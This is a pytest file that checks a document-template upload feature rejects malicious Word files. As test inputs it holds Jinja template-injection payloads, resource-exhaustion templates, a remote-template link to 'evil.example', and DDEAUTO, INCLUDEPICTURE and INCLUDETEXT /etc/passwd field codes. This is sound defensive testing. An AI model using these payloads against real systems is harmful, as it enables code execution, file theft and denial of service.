"""Templates that administrators replace: checked, tried in a sandbox, and never more than a paper."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.db import unit_of_work
from app.papers import checking, filling, rendering
from app.papers.samples import sample
from tests import story
from tests.cast import Cast
from tests.papers.reading import words


def template(*lines: str) -> bytes:
    document, out = Document(), BytesIO()
    for line in lines:
        document.add_paragraph(line)
    document.save(out)
    return out.getvalue()


def upload(browser, kind: str, content: bytes, name: str = "自己的.docx"):
    """Sent from memory: what the test client puts on the disk it never closes."""
    boundary, body = encode_multipart({"file": FileStorage(BytesIO(content), name)})
    form = f"multipart/form-data; boundary={boundary}"
    return browser.post(f"/papers/templates/{kind}", data=body, content_type=form)


@pytest.mark.parametrize("kind", rendering.SHIPPED)
def test_every_shipped_template_fits_its_own_sample_and_asks_for_nothing_unknown(kind):
    content = rendering.shipped(kind)
    assert filling.unknown(content, sample(kind)) == []
    assert "{{" not in words(rendering.render(content, sample(kind)))


def test_a_template_is_downloaded_replaced_used_and_taken_back(app, sign_in):
    with app.app_context(), unit_of_work():
        finding = story.issued(Cast()).id
    admin, inspector = sign_in("admin"), sign_in("inspector")
    assert admin.get("/papers/templates/notice/file.docx").data == rendering.shipped("notice")
    assert upload(admin, "notice", template("本县格式 {{ unit }} {{ findings[0].title }}")).status_code == 303
    assert "自己的.docx" in admin.get("/papers/templates").text
    said = words(inspector.get(f"/papers/notice/{finding}/draft.docx").data)
    assert said == "本县格式 清河县第一小学 围墙开裂，有倒塌危险"
    assert admin.post("/papers/templates/notice/ours").status_code == 303
    assert "回执" in words(inspector.get(f"/papers/notice/{finding}/draft.docx").data)


@pytest.mark.parametrize(
    ("lines", "told"),
    [
        (["{{ secret_key }}"], "secret_key"),
        (["{{ unit.__class__.__mro__ }}"], "无法填写"),
        (["{{ findings[0].nonsense }}"], "nonsense"),
        (["".join(f"{{% for {n} in range(9999) %}}" for n in "abc") + "{% endfor %}" * 3], "秒"),
        (["{{ unit"], "无法填写"),
        (["{{ cycler.__init__.__globals__ }}"], "无法填写"),
        (["{{ 'a' * 10000000000 }}"], "MemoryError"),
    ],
)  # fmt: skip
def test_a_template_that_asks_for_too_much_does_not_count(app, sign_in, monkeypatch, lines, told):
    monkeypatch.setattr(checking, "SECONDS", 6 if told == "秒" else 60)
    answer = upload(sign_in("admin"), "notice", template(*lines))
    assert answer.status_code == 422
    assert told in answer.text
    assert sign_in("admin").get("/papers/templates/notice/file.docx").data == rendering.shipped("notice")


def broken() -> bytes:
    out = BytesIO(template("{{ unit }}"))
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("word/extra.xml", "<w:p")
    return out.getvalue()


@pytest.mark.parametrize("content", [b"", b"no docx at all", b"PK\x03\x04 broken", broken()])
def test_what_is_no_word_file_is_refused(app, sign_in, content):
    assert upload(sign_in("admin"), "notice", content).status_code == 422


def test_a_template_that_fetches_something_is_refused(app, sign_in):
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(template("{{ unit }}"))) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            text = old.read(name)
            if name == "word/_rels/document.xml.rels":
                kind, target = b'Type="http://x/attachedTemplate"', b'Target="http://evil.example/t.dotm"'
                link = b'<Relationship Id="rId99" ' + kind + b" " + target + b' TargetMode="External"/>'
                text = text.replace(b"</Relationships>", link + b"</Relationships>")
            new.writestr(name, text)
    answer = upload(sign_in("admin"), "notice", out.getvalue())
    assert answer.status_code == 422
    assert "evil.example" in answer.text


@pytest.mark.parametrize(
    "order", ["DDEAUTO cmd", 'INCLUDEPICTURE "http://evil.example/x.png"', "INCLUDETEXT /etc/passwd"]
)
def test_a_template_whose_fields_act_when_a_paper_is_opened_is_refused(app, sign_in, order):
    document, out = Document(), BytesIO()
    line = document.add_paragraph("{{ unit }}")
    for part in (order[:3], order[3:], "", " HYPERLINK x PAGE "):  # Word cuts orders into pieces as it likes
        line._p.append(parse_xml(f"<w:r {nsdecls('w')}><w:instrText>{part}</w:instrText></w:r>"))
    document.save(out)
    answer = upload(sign_in("admin"), "notice", out.getvalue())
    assert answer.status_code == 422
    assert order.split()[0] in answer.text


def test_only_administrators_reach_the_templates(app, sign_in):
    assert sign_in("leader").get("/papers/templates").status_code == 403
    assert upload(sign_in("leader"), "notice", template("x")).status_code == 403
